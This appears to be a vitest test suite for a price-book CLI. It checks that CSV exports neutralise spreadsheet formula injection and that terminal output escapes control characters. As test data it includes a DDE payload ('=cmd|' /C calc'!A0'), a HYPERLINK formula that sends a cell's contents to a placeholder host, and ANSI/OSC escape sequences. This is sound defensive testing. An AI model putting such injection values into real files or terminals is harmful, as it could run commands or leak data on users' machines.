import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCliAtTerminal, scriptAvailable } from '../support/cli-process.js';
import { PROTOCOL_ENGINES } from '../support/engines.js';
import { suiteServer } from '../support/suite-server.js';
import { pricesCli } from '../support/prices-cli.js';

/**
 * Files the CLI writes are safe to open in a spreadsheet, and what it prints is safe to show in
 * a terminal: SKUs that are formulas come out neutralised (`'=…`) and go back in as they were,
 * byte for byte; stored text with ESC, OSC, BEL or C1 characters (from before the API refused
 * them, written here straight to the database) is printed with its control characters written
 * out (`\x1b`), never raw. The built CLI (`dist/main/pricebook.js`) against a test server over HTTPS.
 */

/** SKUs a spreadsheet would run, and ones that already look neutralised. */
const FORMULA_SKUS = ['=HYPERLINK("https://x.invalid/?"&A2,"open")', "'=X", '@x', '-1', '+1', "''@y", '=1+1', '\'-"quoted", with comma'];

/** Any control character but the line feed ending each line. */
// eslint-disable-next-line no-control-regex -- control characters are what it looks for
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

/** Whether a spreadsheet opening this CSV text would see a formula in any cell. */
const formulaCells = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe.each(PROTOCOL_ENGINES)('pricebook prices with hostile text on %s', (engine) => {
  const suite = suiteServer(engine, { tenants: 1 });
  const cli = pricesCli(suite, 'pricebook-hostile-cli-');
  const { prices, file } = cli;
  const tradeCustomer = async (email: string) => (await cli.client.customers.create({ email, trade: true })).id;

  it('exports formula SKUs neutralised, in both formats; export → import --replace (dry run, then real) → export is byte-equal', async () => {
    const product = await cli.client.products.create({ title: 'Formulas', price: 1, variations: FORMULA_SKUS.map((sku) => ({ sku })) });
    const first = await tradeCustomer('formula-1@example.com');
    const second = await tradeCustomer('formula-2@example.com');
    await cli.client.tradePrices.bulkCreate([
      ...FORMULA_SKUS.map((sku, index) => ({ customerId: first, productId: product.id, sku, price: index + 0.5 })),
      ...FORMULA_SKUS.slice(0, 4).map((sku, index) => ({ customerId: second, productId: product.id, sku, price: 10 + index })),
    ]);
    const rows = FORMULA_SKUS.length + 4;

    for (const format of ['long', 'matrix']) {
      const exported = await prices(['export', '--format', format]);
      expect(exported.code, exported.stderr).toBe(0);
      expect(formulaCells(exported.stdout), format).toEqual([]);
      // Each SKU's cell is the SKU with one more quote in front when it would start a formula.
      const cells = (parse(exported.stdout) as string[][]).slice(1).map((record) => record[format === 'long' ? 1 : 0]);
      expect(cells).toContain('\'=HYPERLINK("https://x.invalid/?"&A2,"open")');
      expect(cells).toEqual(expect.arrayContaining(["''=X", "'@x", "'-1", "'+1", "'''@y", "'=1+1", '\'\'-"quoted", with comma']));
      if (format === 'long') expect(exported.stdout).toContain(`${first},"'=HYPERLINK(""https://x.invalid/?""&A2,""open"")",0.5,1,,\n`);

      const saved = file(`formulas-${format}.csv`, exported.stdout);
      const dryRun = await prices(['import', '--replace', '--dry-run', saved]);
      expect(dryRun.code, dryRun.stderr).toBe(0);
      expect(dryRun.stdout).toMatch(new RegExp(`0 would be created, 0 would be deleted, ${rows} unchanged; nothing changed\\n$`));
      const diff = await prices(['diff', saved]);
      expect(diff.code, diff.stderr).toBe(0);
      expect(diff.stdout).toMatch(/^2 customers: 0 to change, 0 to create, 0 to delete, 12 unchanged$/m);
      const imported = await prices(['import', '--replace', saved]);
      expect(imported.code, imported.stderr).toBe(0);
      expect(imported.stdout).toMatch(new RegExp(`0 created, 0 deleted, ${rows} unchanged\\n$`));
      expect((await prices(['export', '--format', format])).stdout === exported.stdout, format).toBe(true);
    }
  });

  it('prints stored control characters written out in diff tables, import problems and errors: no ESC, OSC, BEL or C1 reaches the terminal', async () => {
    const customer = await tradeCustomer('escapes@example.com');
    const product = await cli.client.products.create({ title: 'Escapes', price: 1, variations: [{ sku: 'ESC-KEEP' }, { sku: 'ESC-OLD' }] });
    await cli.client.tradePrices.bulkCreate([
      { customerId: customer, productId: product.id, sku: 'ESC-KEEP', price: 2 },
      { customerId: customer, productId: product.id, sku: 'ESC-OLD', price: 3 },
      { customerId: customer, productId: product.id, sku: 'ESC-OLD', price: 2.5, minQuantity: 10 },
    ]);
    // A SKU stored before control characters were refused: colour, title change, bell, 8-bit CSI.
    const legacy = 'ESC-\u001b[31mRED\u001b]0;owned\u0007\u009b2J';
    const { db } = suite.server.services.database;
    await db.updateTable('product_variations').set({ sku: legacy }).where('sku', '=', 'ESC-OLD').where('store_id', '=', suite.tenant.storeId).execute();
    await db.updateTable('skus').set({ sku: legacy }).where('sku', '=', 'ESC-OLD').where('store_id', '=', suite.tenant.storeId).execute();
    await db.updateTable('trade_prices').set({ sku: legacy }).where('sku', '=', 'ESC-OLD').where('store_id', '=', suite.tenant.storeId).execute();
    const shown = 'ESC-\\x1b[31mRED\\x1b]0;owned\\x07\\u009b2J';

    // The diff lists the legacy prices as deleted: the table shows them escaped, still aligned.
    const diff = await prices(['diff', file('escapes.csv', `customer_id,sku,price\n${customer},ESC-KEEP,2\n`)]);
    expect(diff.code, diff.stderr).toBe(0);
    expect(RAW_CONTROL.test(diff.stdout) || RAW_CONTROL.test(diff.stderr)).toBe(false);
    expect(diff.stdout).toBe(
      [
        `customer ${customer}: 0 to change, 0 to create, 2 to delete, 1 unchanged`,
        `  change  sku${' '.repeat(shown.length - 3)}  price  min_quantity  valid_from  valid_until`,
        `  delete  ${shown}  3      1`,
        `  delete  ${shown}  2.5    10`,
        '',
        '1 customer: 0 to change, 0 to create, 2 to delete, 1 unchanged',
        '',
      ].join('\n'),
    );

    // Problems quoting the file's cells, and a matrix column named by an address with an OSC in it.
    const problems = await prices([
      'diff',
      file('escapes-bad.csv', `sku,${customer},a\u001b]0;x\u0007@example.com\nESC-KEEP,1\u001b[2J,\nESC-\u0007,1,2\nESC-KEEP,,1\n`),
    ]);
    expect(problems.code).toBe(1);
    expect(RAW_CONTROL.test(problems.stdout) || RAW_CONTROL.test(problems.stderr)).toBe(false);
    const address = 'a\\x1b]0;x\\x07@example.com';
    // Matrix columns named by customer and spreadsheet column.
    const byId = `customer ${customer} (column B)`;
    const byAddress = `customer ${address} (column C)`;
    const column = Math.max('column'.length, byId.length, byAddress.length);
    expect(problems.stdout).toBe(
      [
        `row  ${'column'.padEnd(column)}  problem`,
        `2    ${byId.padEnd(column)}  must be a price: digits with at most 4 decimals after a point, below 1000000000, got '1\\x1b[2J'`,
        `3    ${'sku'.padEnd(column)}  must not contain control characters (U+0007 at position 5)`,
        `4    ${byAddress}  Customer '${address}' does not exist in this store`,
        '',
      ].join('\n'),
    );

    // The import's problems on stderr; its rejected-rows file keeps the cells as they were (neutralised where they start a formula).
    const bad = file('escapes-import.csv', `customer_id,sku,price\n${customer},ESC-KEEP,1\u001b[2J\n${customer},=cmd|' /C calc'!A0,1\n`);
    const imported = await prices(['import', bad]);
    expect(imported.code).toBe(1);
    expect(RAW_CONTROL.test(imported.stdout) || RAW_CONTROL.test(imported.stderr)).toBe(false);
    expect(imported.stderr).toContain("row 2, price: must be a price: digits with at most 4 decimals after a point, below 1000000000, got '1\\x1b[2J'");
    const rejected = fs.readFileSync(path.join(cli.directory, 'escapes-import.rejected.csv'), 'utf8');
    expect(formulaCells(rejected)).toEqual([]);
    expect(parse(rejected)).toEqual([
      ['customer_id', 'sku', 'price', 'error'],
      [String(customer), 'ESC-KEEP', '1\u001b[2J', expect.stringMatching(/^price: must be a price/)],
      [String(customer), "'=cmd|' /C calc'!A0", '1', "sku: SKU '=cmd|' /C calc'!A0' does not exist in this store"],
    ]);

    // What a matrix leaves out is named by its SKU, escaped (a matrix cannot hold a quantity break).
    const matrix = await prices(['export', '--format', 'matrix', '--customer', String(customer)]);
    expect(matrix.code).toBe(1);
    expect(RAW_CONTROL.test(matrix.stderr)).toBe(false);
    expect(matrix.stdout).toBe(`sku,${customer}\nESC-KEEP,2\n`);
    expect(matrix.stderr).toContain(`  customer ${customer}, SKU '${shown}': a quantity break (min_quantity 10); 2 prices left out\n`);

    // The long export is data: the legacy SKU's cell is exactly what is stored, for a file or a pipe.
    const long = await prices(['export', '--customer', String(customer)]);
    expect(long.code, long.stderr).toBe(0);
    expect((parse(long.stdout) as string[][]).map((record) => record[1])).toEqual(['sku', 'ESC-KEEP', legacy, legacy]);

    // Shown on a terminal, the same export is for reading: the control characters are written out.
    if (scriptAvailable()) {
      const env = { PRICEBOOK_URL: suite.server.baseUrl, PRICEBOOK_TOKEN: suite.tenant.token };
      const shownExport = await runCliAtTerminal(['prices', 'export', '--customer', String(customer), '--cacert', cli.caFile], env);
      expect(shownExport.code).toBe(0);
      // eslint-disable-next-line no-control-regex -- as RAW_CONTROL, the terminal's line ends aside
      expect(shownExport.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      expect(shownExport.stdout).toBe(
        `customer_id,sku,price,min_quantity,valid_from,valid_until\n${customer},ESC-KEEP,2,1,,\n${customer},${shown},3,1,,\n${customer},${shown},2.5,10,,\n`,
      );
    }
  });
});
